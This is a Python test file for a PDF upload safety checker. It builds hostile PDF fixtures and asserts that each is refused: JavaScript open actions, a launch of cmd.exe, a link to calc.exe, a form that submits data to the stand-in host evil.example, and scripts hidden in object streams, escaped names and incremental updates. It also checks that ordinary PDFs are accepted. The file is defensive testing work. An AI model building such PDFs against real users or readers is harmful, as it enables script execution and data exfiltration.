"""A PDF is accepted only when it is pages and nothing else: every object is read, wherever an
attacker hides it. One hostile fixture per trick, and the PDFs real people upload still pass."""

import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject

from tests.core import pdfs
from trading_house.core import pdf_safety
from trading_house.core.pdf_safety import ACTIVE, DAMAGED, EMBEDDED, ENCRYPTED, NO_PAGES

OPENS_SCRIPT = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"


def _page_with(extra: bytes) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + extra + b" >>"


def _catalog_with(extra: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


def _open_at_page(writer):
    page = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [page, NameObject("/FitH"), NumberObject(0)]
    )


def _open_with_goto(writer):
    page = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([page, NameObject("/Fit")]),
        }
    )


def _incremental_update() -> bytes:
    """A clean file, then an appended update that redefines the catalog to run a script."""
    original = pdfs.plain()
    start = len(original)
    update = b"1 0 obj\n" + OPENS_SCRIPT + b"\nendobj\n4 0 obj\n" + pdfs.SCRIPT + b"\nendobj\n"
    xref_at = start + len(update)
    offsets = (start, start + update.index(b"4 0 obj"))
    previous = int(original.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    table = (
        b"xref\n1 1\n%010d 00000 n \n4 1\n%010d 00000 n \n" % offsets
        + b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (previous, xref_at)
    )
    return original + update + table


def _annotation(subtype: str, **fields):
    def change(writer):
        values = {"/Subtype": NameObject(subtype)}
        values.update({f"/{k}": v for k, v in fields.items()})
        pdfs._add_annotation(writer, values)

    return pdfs.with_pypdf(change)


def _xfa(writer):
    form = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): writer._add_object(
                pdfs.stream_object(b"<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>")
            ),
        }
    )
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)


def _submit_form(writer):
    action = pdfs._action("/SubmitForm", F=pdfs.text("https://evil.example/collect"))
    pdfs._add_annotation(
        writer,
        {
            "/Subtype": NameObject("/Widget"),
            "/FT": NameObject("/Btn"),
            "/T": pdfs.text("send"),
            "/A": writer._add_object(action),
        },
    )


HOSTILE = {
    "javascript on a page (/AA)": (
        pdfs.plain({3: _page_with(b"/AA << /O 4 0 R >>"), 4: pdfs.SCRIPT}),
        ACTIVE,
    ),
    "javascript in an annotation": (
        pdfs.link_with_action("/JavaScript", JS=pdfs.text("app.alert(1)")),
        ACTIVE,
    ),
    "javascript when opened (/OpenAction)": (pdfs.plain({1: OPENS_SCRIPT, 4: pdfs.SCRIPT}), ACTIVE),
    "a web address opened by itself (/OpenAction /URI)": (
        pdfs.plain({1: _catalog_with(b"/OpenAction << /S /URI /URI (https://evil.example) >>")}),
        ACTIVE,
    ),
    "a launch action": (pdfs.link_with_action("/Launch", F=pdfs.text("cmd.exe")), ACTIVE),
    "a javascript: link": (
        pdfs.link_with_action("/URI", URI=pdfs.text(" JavaScript:app.alert(1)")),
        ACTIVE,
    ),
    "a link to a local file": (
        pdfs.link_with_action("/URI", URI=pdfs.text("file:///C:/Windows/system32/calc.exe")),
        ACTIVE,
    ),
    "the /JavaScript name tree": (
        pdfs.plain(
            {
                1: _catalog_with(b"/Names << /JavaScript 4 0 R >>"),
                4: b"<< /Names [(init) 5 0 R] >>",
                5: pdfs.SCRIPT,
            }
        ),
        ACTIVE,
    ),
    "an embedded file (/EmbeddedFiles)": (pdfs.embedded_file(), EMBEDDED),
    "a file attachment annotation": (
        _annotation("/FileAttachment", FS=pdfs.text("payload.exe")),
        EMBEDDED,
    ),
    "an XFA form": (pdfs.with_pypdf(_xfa), ACTIVE),
    "rich media": (_annotation("/RichMedia"), ACTIVE),
    "a form that submits data": (pdfs.with_pypdf(_submit_form), ACTIVE),
    "import data": (pdfs.link_with_action("/ImportData", F=pdfs.text("data.fdf")), ACTIVE),
    "names spelled with #xx escapes": (
        pdfs.plain({1: OPENS_SCRIPT, 4: b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"}),
        ACTIVE,
    ),
    "javascript inside a compressed object stream": (
        pdfs.build({1: OPENS_SCRIPT, 2: pdfs.PAGES, 3: pdfs.PAGE}, compressed={4: pdfs.SCRIPT}),
        ACTIVE,
    ),
    "javascript in an object the cross-reference table does not list": (
        pdfs.build(
            {1: pdfs.CATALOG, 2: pdfs.PAGES, 3: pdfs.PAGE},
            unlisted={1: _catalog_with(b"/OpenAction " + pdfs.SCRIPT)},  # a repairing reader's
        ),
        ACTIVE,
    ),
    "javascript in an unlisted object of an object stream": (
        pdfs.build(
            {1: pdfs.CATALOG, 2: pdfs.PAGES, 3: pdfs.PAGE},
            compressed={4: b"<< /Producer (scan) >>", 5: pdfs.SCRIPT},
            hidden={5},
        ),
        ACTIVE,
    ),
    "javascript added by an incremental update": (_incremental_update(), ACTIVE),
    "an encrypted PDF": (pdfs.encrypted(), ENCRYPTED),
    "a PDF that does not parse": (b"%PDF-1.4\n%%EOF garbage", DAMAGED),
    "a PDF without pages": (
        pdfs.build({1: pdfs.CATALOG, 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
        NO_PAGES,
    ),
}


@pytest.mark.parametrize("trick", list(HOSTILE))
def test_a_hostile_pdf_is_refused(trick):
    data, reason = HOSTILE[trick]
    assert pdf_safety.problem(data) == reason


@pytest.mark.parametrize(
    "action", ["/GoToR", "/GoToE", "/Rendition", "/Sound", "/Movie", "/RichMediaExecute"]
)
def test_actions_that_fetch_or_play_something_are_refused(action):
    assert pdf_safety.problem(pdfs.link_with_action(action, F=pdfs.text("x"))) == ACTIVE


def test_the_object_stream_really_hides_the_script_from_a_byte_search():
    """Proof that the check reads the objects: the bytes of this file never say JavaScript."""
    data, _ = HOSTILE["javascript inside a compressed object stream"]
    assert b"JavaScript" not in data and b"/JS" not in data


def test_a_truncated_pdf_is_refused():
    data = pdfs.fpdf2()
    assert pdf_safety.problem(data[: len(data) // 3]) is not None


HARMLESS = {
    "fpdf2 (opens at page 1: a destination)": pdfs.fpdf2(),
    "fpdf2 with a web link": pdfs.fpdf2(link="https://rumahdagang.id"),
    "a scan (an image on a page)": pdfs.scanned(),
    "pypdf, no open action": pdfs.with_pypdf(lambda writer: None),
    "pypdf, opens at a page": pdfs.with_pypdf(_open_at_page),
    "pypdf, opens with a GoTo action": pdfs.with_pypdf(_open_with_goto),
    "a link to a web page": pdfs.link_with_action("/URI", URI=pdfs.text("https://bpjph.go.id")),
    "an e-mail link": pdfs.link_with_action("/URI", URI=pdfs.text("mailto:ekspor@umkm.id")),
    "an accessible (tagged) PDF": pdfs.plain(
        {
            1: _catalog_with(b"/StructTreeRoot 4 0 R /MarkInfo << /Marked true >>"),
            4: b"<< /Type /StructTreeRoot /K 5 0 R /RoleMap << /Judul /H1 >> >>",
            5: b"<< /Type /StructElem /S /Judul /P 4 0 R /K 0 >>",
        }
    ),
    "objects in an object stream": pdfs.build(
        {1: pdfs.CATALOG, 2: pdfs.PAGES}, compressed={3: pdfs.PAGE, 4: b"<< /Producer (x) >>"}
    ),
}


@pytest.mark.parametrize("kind", list(HARMLESS))
def test_the_pdfs_people_upload_are_accepted(kind):
    assert pdf_safety.problem(HARMLESS[kind]) is None
